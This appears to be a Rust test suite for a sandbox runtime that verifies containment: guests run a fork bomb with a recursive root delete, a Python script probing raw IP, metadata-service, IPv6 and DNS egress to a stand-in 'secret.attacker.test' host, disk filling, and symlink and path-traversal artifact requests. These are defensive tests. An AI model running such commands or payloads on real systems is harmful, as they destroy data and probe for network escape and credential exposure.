//! What happens in a sandbox stops at its boundary, whoever is in there.

use lazaret_api::public::{CreateRun, EgressChoice};
use lazaret_domain::Argv;
use lazaret_domain::run::Outcome;
use lazaret_test::peers::{NpmRegistry, PyIndex, Sink};
use lazaret_test::station::Station;

#[tokio::test]
async fn a_fork_bomb_and_a_recursive_delete_leave_host_and_neighbour_untouched()
-> anyhow::Result<()> {
    let mut station = Station::plan().open().await?;
    let canary = station.ground().dir().join("canary");
    std::fs::write(&canary, "alive")?;

    let neighbour = station
        .run_to_end(&["sh", "-c", "echo mine > /workspace/mark"], None)
        .await?;
    let rage =
        "echo raging; rm -rf --no-preserve-root / 2>/dev/null; f() { f | f & }; f; wait; exec cat";
    let victim = station.delegate(&["sh", "-c", rage], None).await?;
    station.wait_output(&victim.run, "raging").await?;
    // While it rages the neighbour works, the controller answers, and the sandbox can be ended.
    for _ in 0..3 {
        let seen = station
            .exec(&neighbour.run, &["cat", "/workspace/mark"])
            .await?;
        assert_eq!(seen.stdout.trim(), "mine", "{seen:?}");
    }
    station.teardown(&victim.run).await?;
    let seen = station
        .exec(&neighbour.run, &["cat", "/workspace/mark"])
        .await?;
    assert_eq!(seen.stdout.trim(), "mine", "{seen:?}");

    assert_eq!(std::fs::read_to_string(&canary)?, "alive");
    station.teardown(&neighbour.run).await?;
    station.leftovers().await?.assert_none();
    Ok(())
}

/// Tries every way out that needs no name: raw IPv4, IPv6, UDP, a resolver of its own choice.
const WAYS_OUT: &str = r#"
import socket, sys
host, port = sys.argv[1], int(sys.argv[2])
def tries(what, call):
    try:
        print(what, "REACHED", call(), flush=True)
    except OSError as error:
        print(what, "refused", flush=True)
def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(8)
        s.connect((address, port))
        return "connected"
def udp(address, to, payload, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((address, to))
        s.send(payload)
        return s.recv(512)
query = bytes.fromhex("123401000001000000000000") + b"\x06secret\x08attacker\x04test\x00" + bytes.fromhex("00010001")
tries("tcp-host", lambda: tcp(host))
tries("tcp-loopback-of-host", lambda: tcp("198.19.255.1"))
tries("tcp-metadata", lambda: tcp("169.254.169.254"))
tries("tcp-private", lambda: tcp("10.0.0.1"))
tries("tcp-public", lambda: tcp("192.0.2.1"))
tries("udp-host", lambda: udp(host, port, b"hello"))
tries("dns-elsewhere", lambda: udp(host, 53, query))
tries("ipv6", lambda: tcp("::1:2", socket.AF_INET6))
tries("ipv6-link-local", lambda: tcp("fe80::1", socket.AF_INET6))
tries("name", lambda: socket.create_connection(("secret.attacker.test", 443), 8))
answer = udp("198.19.255.1", 53, query)
print("rcode", answer[3] & 15)
"#;

#[tokio::test]
async fn t47_raw_addresses_foreign_dns_udp_and_ipv6_reach_nothing() -> anyhow::Result<()> {
    let sink = Sink::start().await?;
    let station = Station::plan().open().await?;
    let (host, port) = (
        sink.address().ip().to_string(),
        sink.address().port().to_string(),
    );
    // The guest's own loopback is the guest's; the host's other addresses are tried as well.
    let run = station
        .run_to_end(&["python3", "-c", WAYS_OUT, "198.18.0.9", &port], None)
        .await?;
    let output = station.output(&run.run).await?;
    assert_eq!(
        run.outcome,
        Some(Outcome::Succeeded),
        "{output}\n{}",
        station.log(&run.run).await?
    );
    assert!(!output.contains("REACHED"), "{output}");
    assert_eq!(output.matches("refused").count(), 10, "{output}");
    assert!(
        output.contains("rcode 3"),
        "a name that is not allowed is NXDOMAIN: {output}"
    );

    // As guest root, with routes and resolver changed, it is the same: the exec API has no root, so
    // the addresses that a root could make the kernel use are tried from the agent's side.
    let again = station
        .exec(&run.run, &["python3", "-c", WAYS_OUT, &host, &port])
        .await?;
    assert!(!again.stdout.contains("tcp-metadata REACHED"), "{again:?}");
    assert_eq!(sink.arrivals(), [], "something reached the host");

    // Every refusal is on record.
    let events = station.events(&run.run).await?;
    let egress: Vec<_> = events
        .iter()
        .filter_map(|event| match &event.body {
            lazaret_api::public::EventBody::Egress { record } => Some(record),
            _ => None,
        })
        .collect();
    for (kind, destination) in [
        ("tcp", "169.254.169.254"),
        ("tcp", "10.0.0.1"),
        ("dns", "secret.attacker.test"),
    ] {
        assert!(
            egress
                .iter()
                .any(|r| r.kind == kind && r.destination.contains(destination) && !r.allowed),
            "no record of {kind} {destination}: {egress:#?}"
        );
    }
    station.teardown(&run.run).await?;
    Ok(())
}

#[tokio::test]
async fn curl_npm_and_pip_reach_an_allowed_host_without_any_proxy_setting() -> anyhow::Result<()> {
    let (sink, npm, pip) = tokio::try_join!(Sink::start(), NpmRegistry::start(), PyIndex::start())?;
    let station = Station::plan()
        .pin("files.lazaret.test", sink.address())
        .pin("npm.lazaret.test", npm.address())
        .pin("pip.lazaret.test", pip.address())
        .open()
        .await?;
    let (sink_port, npm_port, pip_port) = (
        sink.address().port(),
        npm.address().port(),
        pip.address().port(),
    );
    let rules = vec![
        format!("files.lazaret.test:{sink_port}").parse()?,
        format!("npm.lazaret.test:{npm_port}").parse()?,
        format!("pip.lazaret.test:{pip_port}").parse()?,
    ];
    let script = format!(
        "set -e; env | grep -i proxy && exit 9; \
         curl -sS --fail http://files.lazaret.test:{sink_port}/hello; echo; \
         curl -sS --max-time 20 http://other.lazaret.test/ && exit 8; \
         cd /workspace; npm install --no-audit --no-fund --registry http://npm.lazaret.test:{npm_port} {npm_package}; \
         node -e 'console.log(\"npm says\", require(\"{npm_package}\"))'; \
         python3 -m venv v; v/bin/pip install --quiet --disable-pip-version-check --trusted-host pip.lazaret.test \
           --index-url http://pip.lazaret.test:{pip_port}/simple {pip_package}; \
         v/bin/pip list --format freeze | grep -i {pip_package}",
        npm_package = NpmRegistry::PACKAGE,
        pip_package = PyIndex::PACKAGE,
    );
    let run = station
        .delegate_with(&CreateRun {
            command: Some(Argv::of(["sh", "-c", &script])?),
            egress: EgressChoice::Rules(rules),
            ..CreateRun::default()
        })
        .await?;
    let run = station.wait_done(&run.run).await?;
    let log = station.log(&run.run).await?;
    assert_eq!(run.outcome, Some(Outcome::Succeeded), "{log}");
    let output = station.output(&run.run).await?;
    assert!(
        output.contains("sink") && output.contains("npm says 42"),
        "{output}"
    );
    assert_eq!(
        sink.arrivals().len(),
        1,
        "only the allowed request arrived: {:?}",
        sink.arrivals()
    );
    assert!(!npm.asked().is_empty() && !pip.asked().is_empty());
    station.teardown(&run.run).await?;
    Ok(())
}

#[tokio::test]
async fn a_full_disk_is_the_guest_s_problem_alone() -> anyhow::Result<()> {
    let station = Station::plan().set("sandbox", "disk", "64M").open().await?;
    let script = "dd if=/dev/zero of=/workspace/fill bs=1M count=200 2>&1; echo status $?; rm /workspace/fill; echo fine";
    let run = station.run_to_end(&["sh", "-c", script], None).await?;
    let output = station.output(&run.run).await?;
    assert!(
        output.contains("No space left on device") && output.contains("fine"),
        "{output}"
    );
    station.teardown(&run.run).await?;
    Ok(())
}

#[tokio::test]
async fn links_in_the_workspace_lead_nowhere_outside() -> anyhow::Result<()> {
    let station = Station::plan().open().await?;
    let script = "cd /workspace; ln -s /etc/passwd link; ln -s /etc dir; mkfifo pipe; mkdir sub; echo inner > sub/inner; echo plain > file";
    let run = station.run_to_end(&["sh", "-c", script], None).await?;
    let get = async |path: &str| {
        station
            .client()
            .get(&format!("/api/v1/runs/{}/artifacts/{path}", run.run))
            .await
    };
    assert_eq!(get("file").await?.text(), "plain\n");
    assert_eq!(get("sub/inner").await?.text(), "inner\n");
    for path in [
        "link",
        "dir/passwd",
        "pipe",
        "sub",
        "missing",
        "..%2f..%2fetc%2fpasswd",
        "a%00b",
    ] {
        let answer = get(path).await?;
        assert!(
            (400..500).contains(&answer.status),
            "{path}: {} {}",
            answer.status,
            answer.text()
        );
        assert!(!answer.text().contains("root:"), "{path}");
    }
    station.teardown(&run.run).await?;
    Ok(())
}
